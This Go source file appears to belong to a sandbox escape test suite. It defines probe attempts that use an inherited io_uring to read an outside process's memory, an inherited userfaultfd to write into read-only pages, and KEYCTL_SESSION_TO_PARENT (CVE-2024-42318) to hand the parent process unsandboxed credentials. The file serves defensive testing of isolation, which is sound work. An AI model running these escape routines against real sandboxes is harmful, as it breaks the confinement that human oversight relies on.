package attempts

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"strconv"
	"strings"

	"github.com/memjail/memjail/sandbox/kernel/attack"
	"github.com/memjail/memjail/sandbox/probe"
	"golang.org/x/sys/unix"
)

// The descriptors with which launchers are started for the attempts below; see also
// those of descriptorAttempts.
const (
	inheritedRingFD  = 12
	inheritedFaultFD = 13
)

// inheritedMeans are descriptors, made before the sandbox started, that reach the
// memory of whoever made them: here the suite's own process, outside.
func inheritedMeans() []probe.Attempt {
	return []probe.Attempt{
		{Route: "io-uring", Spelling: "inherited", Target: probe.Outside, Layer: "descriptors",
			Effect: probe.Read, Setup: prepareRing, Attack: useInheritedRing, Check: sameHash,
			Explain: "the launcher was started with an io_uring in which a process outside has " +
				"registered its memory", Reference: ringManual},
		{Route: "userfaultfd", Spelling: "inherited", Target: probe.Outside, Layer: "descriptors",
			Effect: probe.WriteRO, Setup: prepareFaults, Attack: useInheritedFaults, Check: believed,
			Explain:   "the launcher was started with a userfaultfd of a process outside, whose pages it fills",
			Reference: userfaultfdManual},
	}
}

// note and noted keep what Attack has to know of what Setup made for each side.
func note(s *probe.Setup, key string, side int, value string) {
	s.Values[key+strconv.Itoa(side)] = value
}
func noted(s *probe.Env, key string) string { return s.Values[key+strconv.Itoa(s.Side())] }

func notedAddress(s *probe.Env) uint64 {
	at, _ := strconv.ParseUint(noted(s, "fault-address"), 16, 64) // 0 is an address where nothing is
	return at
}

// sameHash holds what was read against a hash of the secret: Check runs where the
// attempt does, and the secret is not to be there.
func sameHash(s *probe.Env, _ probe.Victim, o probe.Outcome) bool {
	hash := sha256.Sum256(o.Data)
	return o.Data != nil && hex.EncodeToString(hash[:]) == noted(s, "ring-hash")
}

func prepareRing(s *probe.Setup) (func(), error) {
	for i := range probe.Sides {
		r, err := newRing(probe.Native)
		if err != nil {
			return nil, fmt.Errorf("io_uring_setup: %w", err)
		}
		if err := s.Inherit(i, inheritedRingFD, os.NewFile(r.fd, "ring")); err != nil {
			return nil, err
		}
		secret := low(make([]byte, probe.CanarySize))
		rand.Read(secret)
		const buffers = 0 // IORING_REGISTER_BUFFERS
		if _, err := call(probe.Native, ringRegister, r.fd, buffers,
			iovec(probe.Native, addressOf(secret), len(secret)), 1); err != nil {
			return nil, fmt.Errorf("io_uring_register: %w", err)
		}
		hash := sha256.Sum256(secret)
		note(s, "ring-hash", i, hex.EncodeToString(hash[:]))
		note(s, "ring-params", i, hex.EncodeToString(r.params))
		note(s, "ring-address", i, strconv.FormatUint(addressOf(secret), 16))
	}
	return nil, nil
}

func useInheritedRing(s *probe.Env, _ probe.Victim) probe.Outcome {
	if !isAnonymous(inheritedRingFD, "io_uring") {
		return probe.Refused("io_uring_enter", unix.EBADF)
	}
	params, err := hex.DecodeString(noted(s, "ring-params"))
	at, parseErr := strconv.ParseUint(noted(s, "ring-address"), 16, 64)
	if err != nil || parseErr != nil {
		return probe.Outcome{Unready: true, Detail: "what was prepared is not known"}
	}
	r, err := mapRing(probe.Native, inheritedRingFD, params)
	if err != nil {
		return probe.Refused("mmap", err)
	}
	file, err := unix.MemfdCreate("buffer", unix.MFD_CLOEXEC)
	if err != nil {
		return probe.Refused("memfd_create", err)
	}
	defer unix.Close(file)
	if _, err := r.do(request{op: opWriteFixed, fd: int32(file), address: uintptr(at),
		size: probe.CanarySize}); err != nil {
		return probe.Refused("I/O by io_uring", err)
	}
	secret := make([]byte, probe.CanarySize)
	if _, err := unix.Pread(file, secret, 0); err != nil {
		return probe.Refused("pread", err)
	}
	return probe.Got(secret)
}

func prepareFaults(s *probe.Setup) (func(), error) {
	for i := range probe.Sides {
		fd, err := call(probe.Native, userfaultfdCall, unix.O_CLOEXEC|uffdUserModeOnly)
		if err != nil {
			return nil, fmt.Errorf("userfaultfd: %w", err)
		}
		if err := s.Inherit(i, inheritedFaultFD, os.NewFile(fd, "userfaultfd")); err != nil {
			return nil, err
		}
		page, err := unix.Mmap(-1, 0, unix.Getpagesize(), unix.PROT_READ, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
		if err != nil {
			return nil, fmt.Errorf("mmap: %w", err)
		}
		if step, err := watch(fd, addressOf(page)); err != nil {
			return nil, fmt.Errorf("%s: %w", step, err)
		}
		note(s, "fault-address", i, strconv.FormatUint(addressOf(page), 16))
	}
	return nil, nil
}

func useInheritedFaults(s *probe.Env, _ probe.Victim) probe.Outcome {
	if !isAnonymous(inheritedFaultFD, "userfaultfd") {
		return probe.Refused("ioctl UFFDIO_COPY", unix.EBADF)
	}
	return obtained("ioctl UFFDIO_COPY", fill(inheritedFaultFD, notedAddress(s)))
}

// isAnonymous reports whether a descriptor is of the kernel's object that name says:
// its number may meanwhile be one of this program's own.
func isAnonymous(fd int, name string) bool {
	at, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
	return err == nil && strings.Contains(at, "["+name+"]")
}

// keyAttempts give the parent process another session keyring, and with it, on some
// kernels, credentials without the sandbox.
func keyAttempts() []probe.Attempt {
	keyctl := number{unix.SYS_KEYCTL, 288}
	var all []probe.Attempt
	for _, form := range []struct {
		spelling string
		abi      probe.ABI
		high     uintptr
	}{{"session-to-parent", probe.Native, 0}, {"session-to-parent-high-bits", probe.Native, highBits},
		{"session-to-parent", probe.I386, 0}} {
		explain := "KEYCTL_SESSION_TO_PARENT gives the parent process new credentials"
		if form.high != 0 {
			explain += "; the upper half of the operation is not zero, which the kernel ignores"
		}
		all = append(all, probe.Attempt{Route: "keyctl", Spelling: form.spelling, Target: probe.Parent,
			Effect: probe.Obtain, ABI: form.abi,
			Explain: explain, Reference: "KEYCTL_SESSION_TO_PARENT(2const), CVE-2024-42318",
			Attack: func(*probe.Env, probe.Victim) probe.Outcome {
				// A process without threads is needed as the parent: one of the attempt's own.
				fork := cloneCall.step(probe.Native, uintptr(unix.SIGCHLD))
				fork.Mode |= attack.InChild
				return inChild("keyctl", fork, keyctl.step(form.abi, unix.KEYCTL_JOIN_SESSION_KEYRING, 0),
					keyctl.step(form.abi, unix.KEYCTL_SESSION_TO_PARENT|form.high))
			}})
	}
	return all
}
